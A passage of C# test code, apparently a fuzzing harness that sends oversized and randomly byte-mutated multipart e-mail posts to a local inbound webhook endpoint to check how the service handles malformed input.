    static HostilePost OverLimitMail(int n, bool chunked)
    {
        var boundary = $"big{n}";
        var mime = new byte[OverMailLimitBytes];
        Encoding.ASCII.GetBytes($"From: <{Email(n)}>\r\nSubject: big {Marker(n)}\r\n\r\n").CopyTo(mime, 0);
        mime.AsSpan(64).Fill((byte)'x');
        var form = Form(boundary, [("email", mime, null)]);
        return new HostilePost(n, HostileDoor.MailRaw, "/api/inbound/sendgrid?key=local-inbound-secret", form, $"multipart/form-data; boundary={boundary}", ["mail over 30 MB"])
        {
            OverLimit = true,
            Chunked = chunked,
        };
    }

    static string InboundPath(string secret) => secret.Length == 0 ? "/api/inbound/sendgrid" : $"/api/inbound/sendgrid?key={Uri.EscapeDataString(secret)}";

    static byte[] Form(string boundary, IReadOnlyList<(string Name, byte[] Value, string? ContentType)> fields) =>
        Form(boundary, fields.Select(f => (f.Name, f.Value, f.ContentType, (string?)null)).ToList());

    static byte[] Form(string boundary, IReadOnlyList<(string Name, byte[] Value, string? ContentType, string? FileName)> fields)
    {
        using var form = new MemoryStream();
        foreach (var (name, value, type, fileName) in fields)
        {
            form.Write(Encoding.UTF8.GetBytes($"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"{(fileName is null ? string.Empty : $"; filename=\"{fileName}\"")}\r\n"));
            if (type is not null)
            {
                form.Write(Encoding.ASCII.GetBytes($"Content-Type: {type}\r\n"));
            }

            form.Write("\r\n"u8);
            form.Write(value);
            form.Write("\r\n"u8);
        }

        form.Write(Encoding.ASCII.GetBytes($"--{boundary}--\r\n"));
        return form.ToArray();
    }

    // ---- byte-level mutations, for any door ----

    Func<byte[], byte[]> ByteEdit(List<string> names)
    {
        var kind = random.Next(5);
        var count = 1 + random.Next(8);
        var edit = random.Next();
        names.Add(kind switch
        {
            0 => $"flip {count} bytes",
            1 => $"insert {count} bytes",
            2 => $"delete {count} bytes",
            3 => "truncate",
            _ => "duplicate a slice",
        });

        // Its own Random from a drawn seed, so the edit is the same whenever it is applied.
        return bytes =>
        {
            var r = new Random(edit);
            var b = bytes.ToList();
            if (b.Count == 0)
            {
                return [.. bytes];
            }

            switch (kind)
            {
                case 0:
                    for (var i = 0; i < count; i++)
                    {
                        var at = r.Next(b.Count);
                        b[at] ^= (byte)(1 << r.Next(8));
                    }

                    break;
                case 1:
                    for (var i = 0; i < count; i++)
                    {
                        b.Insert(r.Next(b.Count + 1), (byte)r.Next(256));
                    }

                    break;
                case 2:
                    for (var i = 0; i < count && b.Count > 0; i++)
                    {
                        b.RemoveAt(r.Next(b.Count));
                    }

                    break;
                case 3:
                    b = b.Take(r.Next(b.Count)).ToList();
                    break;
                default:
                    var from = r.Next(b.Count);
                    var length = Math.Min(b.Count - from, 1 + r.Next(64));
                    b.InsertRange(r.Next(b.Count + 1), b.GetRange(from, length));
                    break;
            }

            return [.. b];
        };
    }

    byte[] InsertAt(byte[] bytes, byte[] insert)
    {
        var at = random.Next(bytes.Length + 1);
        return [.. bytes.AsSpan(0, at), .. insert, .. bytes.AsSpan(at)];
    }

    // Right after a quote, so the bytes land inside a key or a text.
    byte[] InsertInside(byte[] bytes, byte after, byte[] insert)
    {
        var quotes = bytes.Select((b, i) => (b, i)).Where(x => x.b == after).Select(x => x.i).ToList();
        var at = quotes.Count == 0 ? random.Next(bytes.Length + 1) : Pick(quotes) + 1;
        return [.. bytes.AsSpan(0, at), .. insert, .. bytes.AsSpan(at)];
    }

    // The field a mutation hits: the e-mail address only now and then, so more hostile input gets past the checks into the pipeline.
    string Target(List<KeyValuePair<string, string>> fields)
    {
        var candidates = random.Next(5) == 0 ? fields : fields.Where(f => f.Key != "email").ToList();
        return candidates.Count == 0 ? "description" : Pick(candidates).Key;
    }

    static void Set(List<KeyValuePair<string, string>> fields, string name, string value)
    {
        var at = fields.FindIndex(f => f.Key == name);
        if (at < 0)
        {
            fields.Add(new(name, value));
        }
        else
        {
            fields[at] = new(name, value);
        }
    }

    static string JsonString(string value) => System.Text.Json.JsonSerializer.Serialize(value);
}
